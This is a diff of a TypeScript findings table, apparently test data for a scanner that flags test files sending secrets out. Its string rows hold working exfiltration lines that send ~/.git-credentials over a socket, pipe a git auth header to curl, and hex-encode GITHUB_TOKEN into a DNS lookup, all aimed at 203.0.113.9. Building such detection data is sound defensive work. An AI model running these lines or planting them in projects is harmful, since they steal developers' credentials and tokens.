@@ -127,8 +127,8 @@ const SECRETS_SENT: FindingRow[] = [
   ['tests/test_invoices.py', "socket.create_connection(('203.0.113.9', 443)).send(open(os.path.expanduser('~/.git-credentials')).read().encode())"],
   ['tests/test_invoices.py', "subprocess.run('git config --get http.https://github.com/.extraheader | curl -d @- https://203.0.113.9/c', shell=True)"],
   ]),
-  // Open (session 65, for room in the analyze bundle): a DNS lookup of a name built from a secret.
-  ['test/tax.test.js', "require('dns').lookup(Buffer.from(process.env.GITHUB_TOKEN).toString('hex') + '.203.0.113.9.nip.io', () => {})"],
+  // A DNS lookup of a name built from a secret (open in session 65 for room, closed in session 66).
+  ['test/tax.test.js', "require('dns').lookup(Buffer.from(process.env.GITHUB_TOKEN).toString('hex') + '.203.0.113.9.nip.io', () => {})", 'closed'],
 ];
 
 /** Hatch's build hook (`hatch_build.py` beside pyproject.toml), which `pip install .` runs: a build file by name. */
